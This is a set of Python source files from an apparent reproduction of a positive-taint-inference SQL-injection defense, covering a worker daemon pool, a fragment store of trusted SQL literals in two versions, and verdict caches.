        """Run a whole batch through ONE admission slot and ONE worker.

        The batch counts as a single request against the in-flight bound
        and occupies one worker pipe for one batched round-trip -- that is
        the point: under batch load the pool serves ``size`` *batches*
        concurrently instead of ``size`` queries.  Shed/failure semantics
        are identical to :meth:`analyze_query`, applied to the batch as a
        unit (a shed batch is shed whole; the engine records a verdict for
        every query in it either way).  Workers whose daemon predates
        ``analyze_batch`` degrade to per-query calls on the same checkout.
        """
        if not queries:
            return []
        if self._closed:
            raise DaemonUnavailable("daemon pool is closed")
        if deadline is None:
            deadline = Deadline.unbounded()
        if not self._admission.acquire(blocking=False):
            raise self._shed(
                f"shed: admission queue full "
                f"(in_flight={self.size + self.max_queue})",
                "sheds_queue_full",
            )
        try:
            with self._lock:
                self._inflight += 1
            worker = self._checkout(deadline)
            try:
                batch = getattr(worker.daemon, "analyze_batch", None)
                if callable(batch):
                    replies = batch(queries, deadline=deadline)
                else:
                    replies = [
                        worker.daemon.analyze_query(q, deadline=deadline)
                        for q in queries
                    ]
            except PTIFailure:
                worker.failures += 1
                worker.consecutive_failures += 1
                self._release(worker)
                raise
            except BaseException:
                self._release(worker)
                raise
            worker.served += len(queries)
            worker.consecutive_failures = 0
            self._release(worker)
            return replies
        finally:
            with self._lock:
                self._inflight -= 1
            self._admission.release()

    def _checkout(self, deadline: Deadline) -> PoolWorker:
        timeout = deadline.bound(self.admission_timeout)
        if timeout is None:
            timeout = self.admission_timeout
        t0 = time.perf_counter()
        try:
            worker = self._free.get(timeout=max(timeout, 0.0))
        except queue.Empty:
            waited = time.perf_counter() - t0
            with self._lock:
                self._wait_samples.append(waited)
            raise self._shed(
                f"shed: no free worker within {timeout:.3f}s "
                f"(size={self.size})",
                "sheds_no_worker",
            ) from None
        waited = time.perf_counter() - t0
        with self._lock:
            self._wait_samples.append(waited)
            self.checkouts += 1
        # Replication hot path: one integer generation compare, no store
        # probe, no getattr.  Refreshes are *pushed* at epoch bump (see
        # refresh_fragments) and applied at release for workers that were
        # in flight during the bump, so under steady-state traffic this
        # branch never fires.  The unlocked read is safe: generation only
        # moves forward, and a stale read just serves one request under
        # the previous vocabulary -- the same serialization as a request
        # arriving momentarily before the refresh.
        if worker.generation != self._generation:
            self._refresh_worker(worker)
        return worker

    def _refresh_worker(self, worker: PoolWorker) -> None:
        """Bring one (checked-out) worker to the current generation.

        Prefers the packed snapshot push -- the frame was serialized once
        at refresh time and the child hot-swaps without a respawn (warm
        handoff) -- and falls back to the legacy close-and-respawn
        refresh for daemons that predate the snapshot protocol.
        """
        with self._lock:
            generation = self._generation
            store = self._store
            frame = self._snapshot_frame
        daemon = worker.daemon
        apply = getattr(daemon, "apply_snapshot", None)
        if frame is not None and callable(apply):
            apply(store, frame)
        else:
            refresh = getattr(daemon, "refresh_fragments", None)
            if callable(refresh):
                refresh(store)
        worker.generation = generation
        with self._lock:
            self.refreshes += 1

    def _release(self, worker: PoolWorker) -> None:
        if worker.consecutive_failures >= self.replace_after:
            worker = self._replace_worker(worker)
        elif worker.generation != self._generation and not self._closed:
            # Apply a pending epoch bump off the checkout path: the worker
            # is warm (new automaton compiled) before it re-enters the
            # free queue, so no future checkout pays for this refresh.
            try:
                self._refresh_worker(worker)
            except Exception:
                # A failed refresh must not lose the pool slot; the next
                # checkout retries (generation still mismatched).
                with self._lock:
                    self.snapshot_push_failures += 1
        if self._closed:
            # Close raced an in-flight request: reap instead of requeueing.
            self._close_daemon(worker.daemon)
            return
        self._free.put(worker)

    # ------------------------------------------------------------------
    # Fragment access (engine integration)
    # ------------------------------------------------------------------

    @property
    def store(self) -> FragmentStore:
        return self._store

    def refresh_fragments(self, store: FragmentStore) -> None:
        """Swap the fragment set and *push* it to the workers (epoch bump).

        The snapshot is serialized exactly once into a packed wire frame
        (``pti.wire.pack_store_snapshot``) shared by every worker push --
        a pool of N children pays one serialisation, not N pickles.  Free
        workers are refreshed immediately, one at a time (each is out of
        the free queue while its child hot-swaps and precompiles, so the
        pool keeps serving from the remaining workers -- a rolling warm
        handoff, never a stall).  Checked-out workers are not touched
        mid-request: their in-flight query is served under the old
        vocabulary, exactly as if it had arrived just before the refresh,
        and the bump is applied when they are released.  After this the
        checkout hot path stays a single int compare.
        """
        frame: bytes | None = None
        try:
            frame = wire.pack_store_snapshot(store.fragments, store.epoch)
        except wire.WireFormatError:
            # Vocabulary exceeds the frame bound: workers fall back to the
            # legacy close-and-respawn refresh (correct, just colder).
            frame = None
        with self._lock:
            self._store = store
            self._generation += 1
            self._snapshot_frame = frame
            target = self._generation
        # Rolling push: visit at most `size` free workers; a worker popped
        # twice (requeued then drawn again) is already current and no-ops.
        for _ in range(self.size):
            if self._closed:
                break
            try:
                worker = self._free.get_nowait()
            except queue.Empty:
                break
            try:
                if worker.generation != target:
                    self._refresh_worker(worker)
                    with self._lock:
                        self.snapshot_pushes += 1
            except Exception:
                with self._lock:
                    self.snapshot_push_failures += 1
            finally:
                self._free.put(worker)

    # ------------------------------------------------------------------
    # Observability
    # ------------------------------------------------------------------

    def worker_health(self) -> list[dict[str, object]]:
        """Health snapshots of currently-free workers (checked-out workers
        are mid-request and appear after release)."""
        with self._free.mutex:
            workers = list(self._free.queue)
        return [worker.health() for worker in workers]

    def resilience_snapshot(self) -> dict[str, object]:
        with self._lock:
            samples = sorted(self._wait_samples)
            depth = max(0, self._inflight - self.size)
            out: dict[str, object] = {
                "pool_size": self.size,
                "queue_capacity": self.max_queue,
                "queue_depth": depth,
                "in_flight": self._inflight,
                "checkouts": self.checkouts,
                "sheds_queue_full": self.sheds_queue_full,
                "sheds_no_worker": self.sheds_no_worker,
                "sheds_total": self.sheds_queue_full + self.sheds_no_worker,
                "replacements": self.replacements,
                "refreshes": self.refreshes,
                "snapshot_pushes": self.snapshot_pushes,
                "snapshot_push_failures": self.snapshot_push_failures,
                "generation": self._generation,
                "overload_policy": self.overload_policy.value,
                "admission_timeout": self.admission_timeout,
            }
        if samples:
            index = min(len(samples) - 1, int(0.95 * (len(samples) - 1)))
            out["saturation_wait_p95"] = samples[index]
            out["saturation_wait_max"] = samples[-1]
        else:
            out["saturation_wait_p95"] = 0.0
            out["saturation_wait_max"] = 0.0
        out["workers"] = self.worker_health()
        return out

    # ------------------------------------------------------------------
    # Shutdown
    # ------------------------------------------------------------------

    def close(self) -> None:
        """Reap every worker; idempotent; in-flight returns are reaped too."""
        with self._lock:
            self._closed = True
        while True:
            try:
                worker = self._free.get_nowait()
            except queue.Empty:
                break
            self._close_daemon(worker.daemon)

    def __enter__(self) -> "DaemonPool":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
