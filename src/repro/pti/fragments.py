"""Fragment store: the trusted vocabulary for positive taint inference.

Fragments are string literals extracted from the application and its plugins
(paper Section IV-A).  The store deduplicates them and maintains the
inverted index that implements the daemon's second optimization
(Section VI-A): *"first parse the query to determine the critical set of
tokens before attempting to match these tokens"* -- for a given critical
token, only fragments that actually contain the token's text can possibly
cover it, so the index maps lowercased critical-token text to candidate
fragments.

Matching inside queries is **case-sensitive** (Taintless explicitly
"matches the letter case of attack tokens with those available in the
application"), so the index is a recall-complete prefilter whose candidates
are verified with exact ``str.find``.

The store serves two matching engines (DESIGN.md section 9): the per-token
scan consumes :meth:`FragmentStore.iter_candidates`, while the one-pass
Aho-Corasick engine (:mod:`repro.pti.automaton`) compiles the whole
vocabulary once per :attr:`FragmentStore.epoch` and ignores the index
entirely.
"""

from __future__ import annotations

import re
import threading
from typing import Iterable, NamedTuple

from ..phpapp.source import extract_fragments
from ..sqlparser.tokens import (
    CRITICAL_OPERATORS,
    Token,
    TokenType,
    is_sql_function,
    is_sql_keyword,
)

__all__ = [
    "FragmentStore",
    "fragment_index_keys",
    "token_index_key",
]

_WORD = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_COMMENT_MARKERS = ("/*", "--", "#")


def fragment_index_keys(fragment: str) -> set[str]:
    """Index keys (lowercased critical-token texts) a fragment can cover.

    Application fragments are *partial* SQL -- ``' ORDER BY x DESC`` starts
    with the closing quote of the preceding placeholder -- so running the
    SQL lexer over them misclassifies everything after an orphan quote as
    string content.  Indexing therefore uses a plain lexical scan: keyword /
    function words, critical operator characters and comment markers.  The
    index is a recall-complete over-approximation; PTI verifies candidates
    with exact containment checks.
    """
    keys: set[str] = set()
    for word in _WORD.findall(fragment):
        # Every word is indexed, not only keywords/functions: identifier
        # coverage matters under the strict token policy, and the index is
        # harmless over-approximation elsewhere.
        keys.add(word.lower())
    for operator in CRITICAL_OPERATORS:
        if operator in fragment:
            keys.add(operator)
    if ";" in fragment:
        keys.add(";")
    for marker in _COMMENT_MARKERS:
        if marker in fragment:
            keys.add(marker)
    return keys


def token_index_key(token: Token) -> str:
    """The index key to look up candidates for one critical token.

    Comments key on their opening marker (their text includes arbitrary
    content); other tokens key on their lowercased text.
    """
    if token.type is TokenType.COMMENT:
        if token.text.startswith("/*"):
            return "/*"
        if token.text.startswith("--"):
            return "--"
        return "#"
    return token.text.lower()


class AutomatonCell:
    """Per-state slot for the compiled Aho-Corasick automaton.

    The automaton is *derived* state of exactly one :class:`_StoreState`
    (same fragment tuple, same epoch), so it lives inside the state it
    describes: the cell is created empty alongside the state and filled at
    most once, under its own lock so concurrent analyzers sharing a store
    compile the vocabulary a single time instead of once per analyzer.

    This is also the warm-handoff hook (DESIGN.md section 13): a reload
    that wants the swap to be stall-free compiles the successor state's
    cell *before* publishing the state, so the first post-swap query finds
    a ready automaton instead of paying the build on-path.  Because the
    cell travels with its state, a racing reader can never pair an old
    vocabulary with a new automaton or vice versa.

    ``factory`` overrides how the automaton is produced -- the tenancy
    layer injects a factory composing a shared base automaton (compiled
    once per base set, across all tenants) with the tenant's tiny overlay
    automaton.
    """

    __slots__ = ("_lock", "_automaton", "_factory")

    def __init__(self, factory=None) -> None:
        self._lock = threading.Lock()
        self._automaton = None
        self._factory = factory

    def peek(self):
        """The compiled automaton, or ``None`` if nobody built it yet."""
        return self._automaton

    def get_or_build(self, state: "_StoreState"):
        """Return ``(automaton, built_now)``; compiles at most once."""
        automaton = self._automaton
        if automaton is not None:
            return automaton, False
        with self._lock:
            if self._automaton is None:
                from .automaton import FragmentAutomaton

                if self._factory is not None:
                    self._automaton = self._factory(state)
                else:
                    self._automaton = FragmentAutomaton(
                        state.fragments, epoch=state.epoch
                    )
                return self._automaton, True
            return self._automaton, False


class _StoreState(NamedTuple):
    """One immutable epoch of the fragment vocabulary.

    The store's entire readable surface -- fragment tuple, membership set,
    inverted index, epoch number -- lives in a single immutable object that
    mutations *replace* rather than edit.  Readers grab ``store._state``
    once (one atomic attribute load under the GIL) and work against a
    self-consistent snapshot: the index positions always resolve into the
    fragment tuple of the *same* epoch, no matter how many reloads happen
    mid-iteration on other threads.

    ``automaton`` is the state's compiled-matcher slot (see
    :class:`AutomatonCell`); it defaults to ``None`` only for direct
    construction in tests -- every state the store publishes carries a
    fresh cell.
    """

    fragments: tuple[str, ...]
    seen: frozenset
    index: dict  # lowercased key -> tuple of positions into ``fragments``
    epoch: int
    automaton: AutomatonCell | None = None


def _build_index(fragments: tuple[str, ...]) -> dict:
    index: dict[str, list[int]] = {}
    for position, fragment in enumerate(fragments):
        for key in fragment_index_keys(fragment):
            index.setdefault(key, []).append(position)
    return {key: tuple(positions) for key, positions in index.items()}


class FragmentStore:
    """Deduplicated fragment set with a critical-token inverted index.

    Concurrency model (DESIGN.md section 10): reads are lock-free against
    copy-on-write :class:`_StoreState` snapshots; mutations serialize on an
    internal lock, build the successor state off to the side, and publish
    it with one reference assignment.  A reader therefore always sees some
    *complete* epoch -- possibly one that is already stale, never a torn
    mix of two -- and stale reads are safe by the epoch protocol: every
    dependent cache revalidates against :attr:`epoch` before trusting
    derived state, and a stale verdict is simply the verdict of a
    serialization in which the read happened before the mutation.
    """

    def __init__(self, fragments: Iterable[str] = ()) -> None:
        self._mutation_lock = threading.RLock()
        self._state = _StoreState((), frozenset(), {}, 0, AutomatonCell())
        self.add_many(fragments)

    def _automaton_cell(self) -> AutomatonCell:
        """Cell for a successor state -- subclass hook (tenancy overrides
        this to inject a factory that composes the shared base automaton
        with the tenant overlay instead of compiling the full vocabulary)."""
        return AutomatonCell()

    # ------------------------------------------------------------------
    # Construction
    # ------------------------------------------------------------------

    @classmethod
    def from_sources(cls, sources: Iterable[str]) -> "FragmentStore":
        """Build a store by running fragment extraction over source texts."""
        store = cls()
        for source in sources:
            store.add_many(extract_fragments(source))
        return store

    @classmethod
    def restore(cls, fragments: Iterable[str], epoch: int) -> "FragmentStore":
        """Rebuild a store at an explicit epoch (checkpoint recovery).

        Construction normally derives the epoch from mutation counting;
        recovery must instead resume the *pre-crash* epoch so dependent
        caches (compiled automata, replication frames) keyed on it stay
        correct across a restart.  Any non-empty vocabulary took at least
        one mutation (a single ``reload`` can install it all in one epoch
        bump), so ``epoch`` must be >= 1 when fragments are present -- an
        epoch below that could alias a different vocabulary.
        """
        store = cls(fragments)
        with store._mutation_lock:
            state = store._state
            implied = 1 if state.fragments else 0
            if epoch < implied:
                raise ValueError(
                    f"restore epoch {epoch} below implied minimum {implied}"
                )
            if epoch != state.epoch:
                store._state = _StoreState(
                    state.fragments, state.seen, state.index, epoch, state.automaton
                )
        return store

    def add(self, fragment: str) -> None:
        """Insert one fragment (idempotent; no-ops do not bump the epoch)."""
        self.add_many((fragment,))

    def add_many(self, fragments: Iterable[str]) -> None:
        """Insert fragments; one copy-on-write state swap for the batch.

        The epoch advances by the number of fragments actually inserted
        (preserving the seed's one-bump-per-add counting); no-op batches
        publish nothing at all.
        """
        with self._mutation_lock:
            state = self._state
            seen = set(state.seen)
            added: list[str] = []
            for fragment in fragments:
                if not fragment or fragment in seen:
                    continue
                seen.add(fragment)
                added.append(fragment)
            if not added:
                return
            new_fragments = state.fragments + tuple(added)
            # Appends never shift existing positions, so the successor
            # index extends the current one instead of re-scanning the
            # whole vocabulary -- journal replay applies thousands of add
            # records over wp.com-scale stores, and a full rebuild per
            # record turns recovery O(records x vocabulary).
            new_index = dict(state.index)
            for offset, fragment in enumerate(added):
                position = len(state.fragments) + offset
                for key in fragment_index_keys(fragment):
                    new_index[key] = new_index.get(key, ()) + (position,)
            self._state = _StoreState(
                new_fragments,
                frozenset(seen),
                new_index,
                state.epoch + len(added),
                self._automaton_cell(),
            )

    def remove(self, fragment: str) -> bool:
        """Remove one fragment (plugin uninstalled); returns True if present.

        Removal invalidates positional index entries, so the successor
        state's index is rebuilt; removal is rare (administrative action),
        lookups are hot.
        """
        with self._mutation_lock:
            state = self._state
            if fragment not in state.seen:
                return False
            new_fragments = tuple(f for f in state.fragments if f != fragment)
            self._state = _StoreState(
                new_fragments,
                state.seen - {fragment},
                _build_index(new_fragments),
                state.epoch + 1,
                self._automaton_cell(),
            )
            return True

    def reload(self, fragments: Iterable[str], *, warm: bool = False) -> None:
        """Replace the whole vocabulary (bulk plugin update).

        With ``warm=True`` the successor state's automaton is compiled
        *before* the state is published (warm handoff): readers are
        lock-free, so they keep serving the old epoch -- old automaton,
        old index -- for the entire build, and the first query after the
        atomic swap finds a ready matcher instead of stalling on the
        per-epoch compile.
        """
        with self._mutation_lock:
            state = self._state
            seen: set[str] = set()
            kept: list[str] = []
            for fragment in fragments:
                if not fragment or fragment in seen:
                    continue
                seen.add(fragment)
                kept.append(fragment)
            new_fragments = tuple(kept)
            new_state = _StoreState(
                new_fragments,
                frozenset(seen),
                _build_index(new_fragments),
                state.epoch + 1,
                self._automaton_cell(),
            )
            if warm:
                new_state.automaton.get_or_build(new_state)
            self._state = new_state

    # ------------------------------------------------------------------
    # Queries (lock-free snapshot reads)
    # ------------------------------------------------------------------

    def __len__(self) -> int:
        return len(self._state.fragments)

    def __contains__(self, fragment: str) -> bool:
        return fragment in self._state.seen

    @property
    def epoch(self) -> int:
        """Monotonic mutation counter; equal epochs imply equal contents.

        (The converse does not hold -- a remove+re-add of the same fragment
        bumps the epoch twice -- which only costs dependent caches a
        spurious flush, never a stale hit.)
        """
        return self._state.epoch

    def snapshot(self) -> _StoreState:
        """The current immutable state (fragments/membership/index/epoch).

        The concurrency-aware way to do multi-field reads: one attribute
        load yields a self-consistent epoch that later mutations can never
        tear.  The automaton compiler and the chaos harness use this to
        pin "the store as of one instant".
        """
        return self._state

    def compiled_automaton(self):
        """``(automaton, built_now)`` for the current state (shared).

        Every analyzer bound to this store resolves its one-pass matcher
        here, so a vocabulary is compiled once per epoch *per store*
        rather than once per analyzer -- and a warm reload's precompiled
        automaton is picked up without any build at all.  ``built_now``
        tells the caller whether *its* call paid for the compile (the
        analyzer's ``automaton_builds`` counter keeps its seed meaning:
        builds this analyzer triggered).
        """
        state = self._state
        cell = state.automaton
        if cell is None:  # directly-constructed state (tests)
            from .automaton import FragmentAutomaton

            return FragmentAutomaton(state.fragments, epoch=state.epoch), True
        return cell.get_or_build(state)

    def __iter__(self):
        return iter(self._state.fragments)

    @property
    def fragments(self) -> tuple[str, ...]:
        """All fragments, in insertion order (immutable snapshot, O(1))."""
        return self._state.fragments

    def iter_all(self):
        """Iterate one consistent snapshot without copying (hot path)."""
        return iter(self._state.fragments)

    def candidates_for(self, token_text: str) -> list[str]:
        """Fragments that contain ``token_text`` (case-insensitive prefilter).

        A superset of the fragments that can cover an occurrence of the
        token, in insertion order.
        """
        return list(self.iter_candidates(token_text))

    def iter_candidates(self, token_text: str):
        """Iterator over index candidates of one consistent snapshot."""
        state = self._state
        fragments = state.fragments
        for position in state.index.get(token_text.lower(), ()):
            yield fragments[position]

    def stats(self) -> dict[str, int]:
        """Extraction statistics (reported by Table III's bench)."""
        state = self._state
        return {
            "fragments": len(state.fragments),
            "indexed_tokens": len(state.index),
            "total_characters": sum(len(f) for f in state.fragments),
        }

    # ------------------------------------------------------------------
    # Persistence (daemon warm restarts; the paper's long-lived daemon
    # keeps fragments in memory, a restart re-extracts -- persisting the
    # store makes restarts cheap for large applications)
    # ------------------------------------------------------------------

    def to_json(self) -> str:
        """Serialise the fragment list (the index is rebuilt on load)."""
        import json

        return json.dumps({"version": 1, "fragments": list(self._state.fragments)})

    @classmethod
    def from_json(cls, text: str) -> "FragmentStore":
        import json

        payload = json.loads(text)
        if payload.get("version") != 1:
            raise ValueError(f"unsupported fragment store version: {payload.get('version')!r}")
        return cls(payload["fragments"])

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(self.to_json())

    @classmethod
    def load(cls, path: str) -> "FragmentStore":
        with open(path, "r", encoding="utf-8") as handle:
            return cls.from_json(handle.read())
