"""Fragment store: the trusted vocabulary for positive taint inference.

Fragments are string literals extracted from the application and its plugins
(paper Section IV-A).  The store deduplicates them and maintains the
inverted index that implements the daemon's second optimization
(Section VI-A): *"first parse the query to determine the critical set of
tokens before attempting to match these tokens"* -- for a given critical
token, only fragments that actually contain the token's text can possibly
cover it, so the index maps lowercased critical-token text to candidate
fragments.

Matching inside queries is **case-sensitive** (Taintless explicitly
"matches the letter case of attack tokens with those available in the
application"), so the index is a recall-complete prefilter whose candidates
are verified with exact ``str.find``.

The store serves two matching engines (DESIGN.md section 9): the per-token
scan consumes :meth:`FragmentStore.iter_candidates`, while the one-pass
Aho-Corasick engine (:mod:`repro.pti.automaton`) compiles the whole
vocabulary once per :attr:`FragmentStore.epoch` and ignores the index
entirely.
"""

from __future__ import annotations

import re
from typing import Iterable

from ..phpapp.source import extract_fragments
from ..sqlparser.tokens import (
    CRITICAL_OPERATORS,
    Token,
    TokenType,
    is_sql_function,
    is_sql_keyword,
)

__all__ = ["FragmentStore", "fragment_index_keys", "token_index_key"]

_WORD = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_COMMENT_MARKERS = ("/*", "--", "#")


def fragment_index_keys(fragment: str) -> set[str]:
    """Index keys (lowercased critical-token texts) a fragment can cover.

    Application fragments are *partial* SQL -- ``' ORDER BY x DESC`` starts
    with the closing quote of the preceding placeholder -- so running the
    SQL lexer over them misclassifies everything after an orphan quote as
    string content.  Indexing therefore uses a plain lexical scan: keyword /
    function words, critical operator characters and comment markers.  The
    index is a recall-complete over-approximation; PTI verifies candidates
    with exact containment checks.
    """
    keys: set[str] = set()
    for word in _WORD.findall(fragment):
        # Every word is indexed, not only keywords/functions: identifier
        # coverage matters under the strict token policy, and the index is
        # harmless over-approximation elsewhere.
        keys.add(word.lower())
    for operator in CRITICAL_OPERATORS:
        if operator in fragment:
            keys.add(operator)
    if ";" in fragment:
        keys.add(";")
    for marker in _COMMENT_MARKERS:
        if marker in fragment:
            keys.add(marker)
    return keys


def token_index_key(token: Token) -> str:
    """The index key to look up candidates for one critical token.

    Comments key on their opening marker (their text includes arbitrary
    content); other tokens key on their lowercased text.
    """
    if token.type is TokenType.COMMENT:
        if token.text.startswith("/*"):
            return "/*"
        if token.text.startswith("--"):
            return "--"
        return "#"
    return token.text.lower()


class FragmentStore:
    """Deduplicated fragment set with a critical-token inverted index."""

    def __init__(self, fragments: Iterable[str] = ()) -> None:
        self._fragments: list[str] = []
        self._seen: set[str] = set()
        # lowercased critical-token text -> indexes of fragments containing it
        self._index: dict[str, list[int]] = {}
        # memoised immutable snapshot served by the ``fragments`` property;
        # invalidated on any mutation.
        self._snapshot: tuple[str, ...] | None = None
        #: Explicit mutation counter.  Every add/remove/reload bumps it;
        #: dependent caches (PTI query/structure caches, the MRU list, the
        #: compiled Aho-Corasick automaton, the shape cache) key their
        #: validity on this value instead of guessing from object identity
        #: or snapshot recomputation.
        self._epoch = 0
        self.add_many(fragments)

    # ------------------------------------------------------------------
    # Construction
    # ------------------------------------------------------------------

    @classmethod
    def from_sources(cls, sources: Iterable[str]) -> "FragmentStore":
        """Build a store by running fragment extraction over source texts."""
        store = cls()
        for source in sources:
            store.add_many(extract_fragments(source))
        return store

    def _mutated(self) -> None:
        """Record a mutation: bump the epoch and drop the memoised snapshot."""
        self._epoch += 1
        self._snapshot = None

    def add(self, fragment: str) -> None:
        """Insert one fragment (idempotent; no-ops do not bump the epoch)."""
        if not fragment or fragment in self._seen:
            return
        self._seen.add(fragment)
        self._mutated()
        index = len(self._fragments)
        self._fragments.append(fragment)
        for key in fragment_index_keys(fragment):
            self._index.setdefault(key, []).append(index)

    def add_many(self, fragments: Iterable[str]) -> None:
        for fragment in fragments:
            self.add(fragment)

    def remove(self, fragment: str) -> bool:
        """Remove one fragment (plugin uninstalled); returns True if present.

        Removal invalidates positional index entries, so the index is
        rebuilt; removal is rare (administrative action), lookups are hot.
        """
        if fragment not in self._seen:
            return False
        self._seen.discard(fragment)
        self._mutated()
        self._fragments.remove(fragment)
        self._rebuild_index()
        return True

    def reload(self, fragments: Iterable[str]) -> None:
        """Replace the whole vocabulary (bulk plugin update)."""
        self._fragments = []
        self._seen = set()
        self._index = {}
        self._mutated()
        for fragment in fragments:
            if not fragment or fragment in self._seen:
                continue
            self._seen.add(fragment)
            index = len(self._fragments)
            self._fragments.append(fragment)
            for key in fragment_index_keys(fragment):
                self._index.setdefault(key, []).append(index)

    def _rebuild_index(self) -> None:
        self._index = {}
        for index, fragment in enumerate(self._fragments):
            for key in fragment_index_keys(fragment):
                self._index.setdefault(key, []).append(index)

    # ------------------------------------------------------------------
    # Queries
    # ------------------------------------------------------------------

    def __len__(self) -> int:
        return len(self._fragments)

    def __contains__(self, fragment: str) -> bool:
        return fragment in self._seen

    @property
    def epoch(self) -> int:
        """Monotonic mutation counter; equal epochs imply equal contents.

        (The converse does not hold -- a remove+re-add of the same fragment
        bumps the epoch twice -- which only costs dependent caches a
        spurious flush, never a stale hit.)
        """
        return self._epoch

    def __iter__(self):
        return iter(self._fragments)

    @property
    def fragments(self) -> tuple[str, ...]:
        """All fragments, in insertion order.

        Served as a memoised immutable snapshot: the previous
        implementation copied the whole list on *every* access, which bench
        and evaluation code paths hit per request.  The tuple is rebuilt
        only after an insertion invalidates it; iteration-only hot paths
        should still prefer :meth:`iter_all`, which never materialises
        anything.
        """
        snapshot = self._snapshot
        if snapshot is None:
            snapshot = self._snapshot = tuple(self._fragments)
        return snapshot

    def iter_all(self):
        """Iterate all fragments without copying (hot path)."""
        return iter(self._fragments)

    def candidates_for(self, token_text: str) -> list[str]:
        """Fragments that contain ``token_text`` (case-insensitive prefilter).

        A superset of the fragments that can cover an occurrence of the
        token, in insertion order.
        """
        return list(self.iter_candidates(token_text))

    def iter_candidates(self, token_text: str):
        """Non-copying iterator over index candidates (hot path)."""
        fragments = self._fragments
        for index in self._index.get(token_text.lower(), ()):
            yield fragments[index]

    def stats(self) -> dict[str, int]:
        """Extraction statistics (reported by Table III's bench)."""
        return {
            "fragments": len(self._fragments),
            "indexed_tokens": len(self._index),
            "total_characters": sum(len(f) for f in self._fragments),
        }

    # ------------------------------------------------------------------
    # Persistence (daemon warm restarts; the paper's long-lived daemon
    # keeps fragments in memory, a restart re-extracts -- persisting the
    # store makes restarts cheap for large applications)
    # ------------------------------------------------------------------

    def to_json(self) -> str:
        """Serialise the fragment list (the index is rebuilt on load)."""
        import json

        return json.dumps({"version": 1, "fragments": self._fragments})

    @classmethod
    def from_json(cls, text: str) -> "FragmentStore":
        import json

        payload = json.loads(text)
        if payload.get("version") != 1:
            raise ValueError(f"unsupported fragment store version: {payload.get('version')!r}")
        return cls(payload["fragments"])

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(self.to_json())

    @classmethod
    def load(cls, path: str) -> "FragmentStore":
        with open(path, "r", encoding="utf-8") as handle:
            return cls.from_json(handle.read())
