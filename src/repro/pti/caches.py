"""The three caches of the PTI analysis pipeline (paper Sections IV-C, VI-A).

1. :class:`QueryCache` -- exact query string -> safety verdict.  "Because
   many queries of a web application are constant and do not rely on any
   user-input, caching improves performance significantly" (IV-C.2).  This
   is what takes WordPress read requests to <4% overhead (Table V).
2. :class:`StructureCache` -- AST structure signature -> safety verdict.
   "Caches the structure of the SQL query abstract-syntax-tree without the
   content of data nodes", covering dynamic queries whose literals vary per
   request; takes write requests from 34% to 12% overhead (Table V).
3. :class:`MRUFragmentCache` -- most-recently-used fragments, tried before
   the full store "to take advantage of the SQL query working set of a Web
   application" (VI-A).

Caching *safety* by structure is sound under the paper's threat model: an
injection, by definition, introduces or alters critical tokens, which always
changes the token/AST structure -- literals-only changes cannot turn a safe
structure into an attack.
"""

from __future__ import annotations

import threading
from collections import OrderedDict

__all__ = ["QueryCache", "StructureCache", "MRUFragmentCache", "CacheStats"]


class CacheStats:
    """Hit/miss counters shared by the cache classes."""

    def __init__(self) -> None:
        self.hits = 0
        self.misses = 0

    @property
    def lookups(self) -> int:
        return self.hits + self.misses

    @property
    def hit_rate(self) -> float:
        return self.hits / self.lookups if self.lookups else 0.0

    def reset(self) -> None:
        self.hits = 0
        self.misses = 0


class _LRUCache:
    """Bounded LRU map from string key to an arbitrary cached payload.

    Thread-safe: even a *read* mutates an LRU (``move_to_end`` rewires the
    recency list), so every operation takes the internal lock.  The lock is
    held only for the O(1) dict work -- never across analysis -- keeping
    the critical section in the nanosecond range (DESIGN.md section 10).
    """

    def __init__(self, capacity: int = 10_000) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        self.capacity = capacity
        self._store: OrderedDict[str, object] = OrderedDict()
        self._lock = threading.Lock()
        self.stats = CacheStats()

    def get(self, key: str):
        with self._lock:
            if key in self._store:
                self._store.move_to_end(key)
                self.stats.hits += 1
                return self._store[key]
            self.stats.misses += 1
            return None

    def put(self, key: str, value) -> None:
        with self._lock:
            self._store[key] = value
            self._store.move_to_end(key)
            while len(self._store) > self.capacity:
                self._store.popitem(last=False)

    def clear(self) -> None:
        with self._lock:
            self._store.clear()

    def __len__(self) -> int:
        return len(self._store)


class QueryCache(_LRUCache):
    """Exact-query-string cache (an in-memory hashtable, IV-C.2).

    Stores ``(safe, critical_tokens)`` pairs: NTI "reuses the critical
    tokens and keywords previously obtained by the PTI Daemon" (Section
    IV-D), so a hit must hand the tokens back without re-lexing.
    """


class StructureCache(_LRUCache):
    """Structure-signature cache (VI-A); stores safe verdicts only."""


class MRUFragmentCache:
    """Move-to-front list of fragments that recently covered a token.

    Benign queries repeat the same small fragment working set, so trying
    these first lets most tokens match on the first few comparisons.
    """

    def __init__(self, capacity: int = 64) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        self.capacity = capacity
        self._items: list[str] = []
        self._lock = threading.Lock()

    def items(self) -> list[str]:
        """Fragments in most-recently-used-first order (stable copy)."""
        with self._lock:
            return list(self._items)

    def touch(self, fragment: str) -> None:
        """Record that ``fragment`` just matched; moves it to the front."""
        with self._lock:
            try:
                self._items.remove(fragment)
            except ValueError:
                pass
            self._items.insert(0, fragment)
            del self._items[self.capacity :]

    def prune(self, is_valid) -> bool:
        """Drop entries rejected by ``is_valid`` (fragment-store membership).

        Called by the analyzer's epoch guard after a store mutation: a
        removed fragment lingering in the MRU would keep "covering" critical
        tokens (containment checks consult only the query text, never store
        membership) -- stale trust that fails open.  Surviving fragments
        keep their recency order, so the working set is not cold-started by
        an unrelated add.  Returns ``True`` when anything was dropped.
        """
        with self._lock:
            kept = [fragment for fragment in self._items if is_valid(fragment)]
            changed = len(kept) != len(self._items)
            self._items = kept
            return changed

    def clear(self) -> None:
        with self._lock:
            self._items.clear()

    def __len__(self) -> int:
        return len(self._items)

    def __contains__(self, fragment: str) -> bool:
        return fragment in self._items
