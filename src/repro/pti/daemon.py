"""The PTI daemon (paper Section IV-C).

The paper runs PTI as a separate native daemon so that deployment needs no
administrator privileges: the PHP application spawns the daemon and talks to
it over pipes.  This module provides both flavours:

- :class:`PTIDaemon` -- the analysis service itself (fragment matching plus
  the query and structure caches), usable in-process.  Per-stage wall-clock
  timings are recorded so the Figure 7 breakdown can be regenerated.
